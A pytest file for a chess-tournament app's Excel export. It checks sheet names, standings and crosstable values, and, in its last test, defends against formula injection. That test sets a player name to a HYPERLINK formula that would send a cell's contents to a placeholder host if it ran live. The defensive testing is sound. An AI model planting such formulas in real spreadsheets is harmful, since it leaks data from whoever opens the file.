"""Excel export: the workbook opens, its Standings sheet equals standings() cell by cell."""
from __future__ import annotations

from fractions import Fraction

import openpyxl
import pytest

from arbiter_gui.formats.xlsx import export_xlsx
from arbiter_gui.reports.documents import tournament_standings
from arbiter_gui.tournament.crosstable import crosstable
from tests.reports import TIEBREAKS, big_tournament, long_named


@pytest.fixture(scope="module")
def workbook(tmp_path_factory):
    path = tmp_path_factory.mktemp("xlsx") / "event.xlsx"
    export_xlsx(big_tournament(), path)
    assert [p.name for p in path.parent.iterdir()] == ["event.xlsx"]  # no temporary left behind
    return openpyxl.load_workbook(path)


def test_sheets(workbook) -> None:
    t = big_tournament()
    assert workbook.sheetnames == ["Players", *(f"Round {r}" for r in range(1, 10)), "Standings", "Crosstable"]
    for ws in workbook.worksheets:
        assert ws.freeze_panes in ("A2", "E2"), ws.title
        assert ws.column_dimensions["A"].width
    players = workbook["Players"]
    assert players.max_row == 1 + len(t.players)
    assert {players.cell(row=tpn + 1, column=3).value for tpn in long_named(t)} == {t.player(tpn).name for tpn in long_named(t)}
    assert players.column_dimensions["C"].width >= 33
    r1 = workbook["Round 1"]
    board = t.round(1).boards[0]
    assert [c.value for c in r1[2]][:3] == [1, board.white, t.player(board.white).name]
    assert r1.max_row == 1 + len(t.round(1).boards) + len(t.round(1).unpaired)


def test_standings_sheet_equals_standings(workbook) -> None:
    ws = workbook["Standings"]
    assert [c.value for c in ws[1]] == ["Rank", "No", "Name", "Fed", "Rating", "Points", *TIEBREAKS]
    rows = tournament_standings(big_tournament())
    assert ws.max_row == 2 + len(rows)
    assert [c.value for c in ws[ws.max_row]][:3] == [None, None, "(final)"]  # VCL4THP Q161, Q169
    for line, row in enumerate(rows, start=2):
        values = [c.value for c in ws[line]]
        assert values[0] == row.rank and values[1] == row.id
        assert Fraction(values[5]) == row.points
        for i, code in enumerate(TIEBREAKS):
            expected = row.tiebreaks[code]
            got = values[6 + i]
            assert (got is None) if expected is None else Fraction(got).limit_denominator(10**6) == expected, (line, code)
    assert ws["F2"].number_format == "0.0"


def test_crosstable_sheet_equals_the_crosstable(workbook) -> None:
    ws = workbook["Crosstable"]
    rows = crosstable(big_tournament())
    assert ws.max_row == 1 + len(rows)
    assert [c.value for c in ws[1]] == ["Line", "Rank", "No", "Name", "Rating", *(f"R{r}" for r in range(1, 10)),
                                        "Points", *TIEBREAKS]
    for line, row in enumerate(rows, start=2):
        values = [c.value for c in ws[line]]
        assert values[:4] == [row.line, row.rank, row.tpn, row.name]
        assert tuple(values[5:14]) == row.cells, line
        assert Fraction(values[14]) == row.points


def test_text_that_looks_like_a_formula_is_written_as_text(tmp_path) -> None:
    """Formula injection (issue 16): a player's name, club or federation is never a live formula."""
    from dataclasses import replace

    from arbiter_gui.formats.trf import read_trf
    from arbiter_gui.formats.trf_tournament import tournament_from_trf
    from tests.reports import GENERATED

    t = tournament_from_trf(read_trf(str(GENERATED)))
    hostile = '=HYPERLINK("http://example.invalid/?"&A1,"Click")'
    players = {**t.players, 1: replace(t.players[1], name=hostile, club="=1+1", federation="=A1")}
    t = replace(t, players=players)
    path = tmp_path / "event.xlsx"
    export_xlsx(t, path)
    wb = openpyxl.load_workbook(path)
    cells = [cell for ws in wb.worksheets for row in ws.iter_rows() for cell in row
             if isinstance(cell.value, str) and cell.value.startswith("=")]
    assert cells and all(cell.data_type == "s" for cell in cells)
    assert {cell.value for cell in cells} >= {hostile, "=1+1", "=A1"}
    assert wb["Players"]["C2"].value == hostile
